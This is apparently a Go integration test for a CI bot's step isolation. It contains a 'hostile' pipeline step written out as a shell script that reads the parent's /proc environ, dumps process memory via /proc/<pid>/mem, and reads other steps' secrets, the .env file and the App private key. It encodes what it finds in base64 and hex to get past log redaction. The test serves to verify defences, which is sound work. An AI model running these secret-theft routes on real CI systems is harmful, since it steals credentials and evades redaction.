package server_test

import (
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"os"
	osuser "os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/railyard/railyard/internal/githubtest"
	"github.com/railyard/railyard/internal/redisproc"
)

// hostilePipeline's build step tries every route to the bot's secrets it
// knows of. For each it keeps what it read in stolen/<route> in its
// workspace, notes ok (read something) or denied (nothing) in
// stolen/<route>.status,
// and prints all of it in base64 and hex, past the log redaction. The
// staging step is another step running meanwhile, with a secret of its
// own in its environment and workspace; it waits until the test releases it.
const hostilePipeline = `
stages:
  - name: build
    steps:
      - name: steal
        run: |
          BOTDIR='{{BOTDIR}}' ENVFILE='{{ENVFILE}}' KEYFILE='{{KEYFILE}}' WORKDIR='{{WORKDIR}}'
          out=$PWD/stolen; rm -rf "$out"; mkdir "$out"
          try() {
            (eval "$2") > "$out/$1" 2>/dev/null
            if [ -s "$out/$1" ]; then s=ok; else s=denied; fi
            echo $s > "$out/$1.status"
          }
          dump_mem() {
            grep -E '^[0-9a-f]+-[0-9a-f]+ rw' /proc/$1/maps | while read range rest; do
              s=${range%-*}; e=${range#*-}
              dd if=/proc/$1/mem bs=4096 skip=$((0x$s / 4096)) count=$(((0x$e - 0x$s) / 4096)) 2>/dev/null
            done | strings -n 8
          }
          try own-env 'env'
          try bot-environ 'cat /proc/$PPID/environ'
          try bot-cmdline 'cat /proc/$PPID/cmdline'
          try bot-mem 'dump_mem $PPID'
          pgrp() { cut -d' ' -f5 /proc/$1/stat 2>/dev/null; }
          try other-environ 'for p in /proc/[0-9]*; do [ "$(pgrp ${p#/proc/})" = "$(pgrp $$)" ] || cat $p/environ; done'
          try other-mem 'for p in $(pgrep -f "victim""-wait"); do dump_mem $p; done'
          try bot-cwd 'ls -a /proc/$PPID/cwd/ && cat /proc/$PPID/cwd/.env'
          try bot-dir 'ls -a "$BOTDIR"'
          try parent-dirs 'd=$BOTDIR; while [ "$d" != / ]; do d=$(dirname "$d"); ls -a "$d" || exit 1; done'
          try dotenv 'cat "$ENVFILE"'
          try key-file 'cat "$KEYFILE"'
          try workdir 'ls -a "$WORKDIR"'
          try other-workspace 'cat "$WORKDIR"/*/*/*/victim.secret'
          for f in "$out"/*.status; do
            n=$(basename "$f" .status)
            echo "== $n: $(cat "$f")"
            head -c 2000 "$out/$n" | base64 -w0; echo
            head -c 1000 "$out/$n" | od -An -tx1 | tr -d ' \n'; echo
          done
  - name: staging
    steps:
      - name: victim
        env:
          VICTIM_TOKEN: '{{MARKER}}'
        run: |
          echo "$VICTIM_TOKEN" > victim.secret
          echo $$ > victim.pid
          i=0; while [ ! -e release ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done # victim-wait
`

// hostileRoutes are the routes the build step tries, besides its own
// environment and the bot's command line, which it may read but which hold
// no secret.
var hostileRoutes = []string{"bot-environ", "bot-mem", "other-environ", "other-mem", "bot-cwd", "bot-dir",
	"parent-dirs", "dotenv", "key-file", "workdir", "other-workspace"}

// TestStepsCannotReachTheBotsSecrets runs the real bot binary, pushes two
// revisions so that a hostile build step runs while another stage's step
// is running, and checks what the hostile step got. With isolation off the
// same step finds every secret, which shows that the checks can fail.
func TestStepsCannotReachTheBotsSecrets(t *testing.T) {
	t.Parallel()
	bin := buildBot(t)
	for _, tt := range []struct {
		name     string
		asRoot   bool // the bot runs as root; else as an unprivileged user
		isolated bool
	}{
		{name: "bot as root, isolated", asRoot: true, isolated: true},
		{name: "bot as root, isolation off", asRoot: true},
		{name: "bot unprivileged, isolated", isolated: true},
		{name: "bot unprivileged, isolation off"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel() // each its own bot process, Redis and GitHub
			if tt.asRoot && os.Geteuid() != 0 {
				t.Skip("needs root: the bot must run as root")
			}
			runHostileStep(t, bin, tt.asRoot, tt.isolated)
		})
	}
}

func runHostileStep(t *testing.T, bin string, asRoot, isolated bool) {
	redisPassword := "redis-pw-" + rand.Text()
	marker := "victim-token-" + rand.Text()
	redisURL := passwordRedis(t, redisPassword)

	// The bot's directory is reachable and its files readable by anyone:
	// only the isolation keeps steps out.
	botDir := reachableDir(t)
	var cred *syscall.Credential
	if !asRoot && os.Geteuid() == 0 {
		cred = nobody(t)
	}
	binCopy := filepath.Join(botDir, "bot")
	copyFile(t, bin, binCopy, 0o755)
	gh := githubtest.New(t)
	keyFile := filepath.Join(botDir, "app.pem")
	envFile := filepath.Join(botDir, ".env")
	writeFile(t, keyFile, string(gh.PrivateKeyPEM()))
	writeFile(t, envFile, fmt.Sprintf("GITHUB_APP_WEBHOOK_SECRET=%q\n", secret))
	workDir := filepath.Join(botDir, "work")
	if cred != nil {
		chownAll(t, botDir, cred)
	}

	h := &harness{t: t, gh: gh, repo: gh.AddRepo(repoName, defaultBranch), dir: t.TempDir()}
	h.repo.SetPermission(user, "admin", "admin")
	h.files = map[string]githubtest.File{".github/railyard.yml": {Content: strings.NewReplacer(
		"{{BOTDIR}}", botDir, "{{ENVFILE}}", envFile, "{{KEYFILE}}", keyFile, "{{WORKDIR}}", workDir, "{{MARKER}}", marker,
	).Replace(hostilePipeline)}}
	h.env.V3APIURL, h.env.WebURL, h.env.AppID, h.env.StepIsolationOff = gh.URL, "https://github.com/", 1, !isolated
	h.env.RedisURL = redisURL
	bot := startBotAs(t, binCopy, h, botSetup{dir: botDir, cred: cred, env: []string{
		"GITHUB_APP_WEBHOOK_SECRET", "GITHUB_APP_PRIVATE_KEY", // from .env and the key file instead
		"GITHUB_APP_PRIVATE_KEY_FILE=" + keyFile,
		"RAILYARD_WORKDIR=" + workDir,
		"RAILYARD_STATUS_PAGE=public", // the off-mode banner is read without credentials
	}})

	// A: its build step steals alone; then its staging step (the victim)
	// starts and waits. B: its build step steals while the victim runs.
	a := h.commit()
	bot.push(a)
	revA := filepath.Join(workDir, repoName, a)
	h.await("the victim step to run", func() bool { _, err := os.Stat(filepath.Join(revA, "victim.pid")); return err == nil })
	b := h.commit()
	bot.push(b)
	h.awaitCheckRun("railyard/build", b, "success")
	writeFile(t, filepath.Join(revA, "release"), "")
	h.awaitCheckRun("railyard/staging", a, "success")
	revB := filepath.Join(workDir, repoName, b)
	writeFile(t, filepath.Join(revB, "release"), "")
	h.awaitCheckRun("railyard/staging", b, "success")
	page := fetch(t, bot.url+"/status/"+repoName)
	// The kernel gives a non-dumpable process's /proc files to root, which
	// tells only when the bot is not root itself.
	botUID := uint32(os.Geteuid())
	if cred != nil {
		botUID = cred.Uid
	}
	var st syscall.Stat_t
	if err := syscall.Stat(fmt.Sprintf("/proc/%d/environ", bot.cmd.Process.Pid), &st); err != nil {
		t.Fatal(err)
	}
	if dumpable := st.Uid == botUID; botUID != 0 && dumpable == isolated {
		t.Errorf("the bot's /proc/<pid>/environ belongs to uid %d: dumpable %v, want %v", st.Uid, dumpable, !isolated)
	}
	bot.kill()

	secrets := map[string]string{
		"webhook secret":          secret,
		"App key":                 keyLine(gh.PrivateKeyPEM()),
		"Redis password":          redisPassword,
		"other step's env secret": marker,
	}
	got := map[string]string{}
	status := map[string]string{}
	for _, r := range append([]string{"own-env", "bot-cmdline"}, hostileRoutes...) {
		got[r] = readOrEmpty(t, filepath.Join(revB, "stolen", r))
		status[r] = strings.TrimSpace(readOrEmpty(t, filepath.Join(revB, "stolen", r+".status")))
		if status[r] == "" {
			t.Fatalf("the hostile step left no result for %s", r)
		}
	}
	t.Logf("what the hostile step read: %v", status)
	var received strings.Builder // what GitHub received
	for _, cr := range h.repo.CheckRuns() {
		fmt.Fprintln(&received, cr.Title, cr.Summary, cr.Text)
	}
	for _, c := range h.repo.Comments(1) {
		fmt.Fprintln(&received, c.Body)
	}

	if isolated {
		for _, r := range hostileRoutes {
			if status[r] != "denied" {
				t.Errorf("route %s: %s, want denied; it read:\n%.500s", r, status[r], got[r])
			}
		}
		for r, text := range got {
			for what, s := range secrets {
				if enc := leaked(text, s); enc != "" {
					t.Errorf("route %s yields the %s (%s)", r, what, enc)
				}
			}
		}
		for what, s := range secrets {
			if enc := leaked(received.String(), s); enc != "" {
				t.Errorf("GitHub received the %s (%s)", what, enc)
			}
		}
		// bytes.Buffer is safe to read now: the bot has exited.
		if logs := bot.logs.String(); !strings.Contains(logs, "Steps are isolated from the bot's secrets.") ||
			!strings.Contains(logs, `"landlock_abi":`) || !strings.Contains(logs, `"non_dumpable":true`) {
			t.Errorf("the bot's log does not tell which protections are active:\n%s", logs)
		}
		if strings.Contains(page, "Step isolation is off") {
			t.Errorf("isolated, yet the status page warns that isolation is off")
		}
		return
	}

	if !strings.Contains(bot.logs.String(), "Step isolation is off") {
		t.Errorf("with isolation off, the bot's log does not warn:\n%s", bot.logs)
	}
	// Isolation off: each secret is within the hostile step's reach, and
	// base64 or hex carries it past redaction into the check run.
	reach := map[string]string{
		"bot-environ": "Redis password", "bot-mem": "webhook secret", "dotenv": "webhook secret",
		"key-file": "App key", "other-environ": "other step's env secret", "other-mem": "other step's env secret",
		"other-workspace": "other step's env secret",
	}
	if !asRoot && yamaScope() > 0 {
		// Yama lets a process read the memory of its descendants only.
		delete(reach, "bot-mem")
		delete(reach, "other-mem")
	}
	for route, what := range reach {
		if leaked(got[route], secrets[what]) == "" {
			t.Errorf("isolation off: route %s (%s) did not yield the %s; the test would prove nothing.\nIt read:\n%.500s",
				route, status[route], what, got[route])
		}
	}
	for _, what := range []string{"webhook secret", "App key", "Redis password"} {
		if enc := leaked(received.String(), secrets[what]); enc == "" || enc == "plain" {
			t.Errorf("isolation off: GitHub received the %s %q, want it encoded past redaction", what, enc)
		}
	}
	if !strings.Contains(page, "Step isolation is off") {
		t.Errorf("with isolation off, the status page does not warn:\n%.2000s", page)
	}
}

// yamaScope is the kernel's Yama ptrace scope; 0 when Yama is absent.
func yamaScope() int {
	data, _ := os.ReadFile("/proc/sys/kernel/yama/ptrace_scope")
	n, _ := strconv.Atoi(strings.TrimSpace(string(data)))
	return n
}

// leaked names the form in which text holds secret: plain, hex or base64
// (at any of the three alignments); "" when it does not.
func leaked(text, secret string) string {
	flat := strings.Join(strings.Fields(text), "")
	if strings.Contains(text, secret) {
		return "plain"
	}
	if h := hex.EncodeToString([]byte(secret)); strings.Contains(flat, h) || strings.Contains(flat, strings.ToUpper(h)) {
		return "hex"
	}
	for pad := range 3 {
		enc := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00", pad) + secret))
		// Drop the characters that also depend on the bytes around it.
		core := enc[[]int{0, 2, 3}[pad] : len(enc)-4]
		if strings.Contains(flat, core) {
			return "base64"
		}
	}
	return ""
}

// keyLine is a line from the middle of a PEM key: the key as a step would
// find it, whole lines of base64.
func keyLine(pem []byte) string {
	lines := strings.Split(string(pem), "\n")
	return lines[len(lines)/2]
}

// passwordRedis starts a private redis-server that asks for password.
func passwordRedis(t *testing.T, password string) string {
	return redisproc.StartWith(t, redisproc.Options{Password: password}).URL()
}

// reachableDir is a new folder any user can enter (t.TempDir's is not).
func reachableDir(t *testing.T) string {
	dir, err := os.MkdirTemp("", "railyard-isolation-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

func nobody(t *testing.T) *syscall.Credential {
	u, err := osuser.Lookup("nobody")
	if err != nil {
		t.Skipf("no user nobody to run the bot as: %v", err)
	}
	uid, _ := strconv.ParseUint(u.Uid, 10, 32)
	gid, _ := strconv.ParseUint(u.Gid, 10, 32)
	return &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid), Groups: []uint32{}}
}

func chownAll(t *testing.T, dir string, cred *syscall.Credential) {
	err := filepath.Walk(dir, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, int(cred.Uid), int(cred.Gid))
	})
	if err != nil {
		t.Fatal(err)
	}
}

func writeFile(t *testing.T, path, content string) {
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func copyFile(t *testing.T, from, to string, mode os.FileMode) {
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, mode); err != nil {
		t.Fatal(err)
	}
}

func readOrEmpty(t *testing.T, path string) string {
	data, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return string(data)
}

// fetch returns the body of a GET of url.
func fetch(t *testing.T, url string) string {
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}
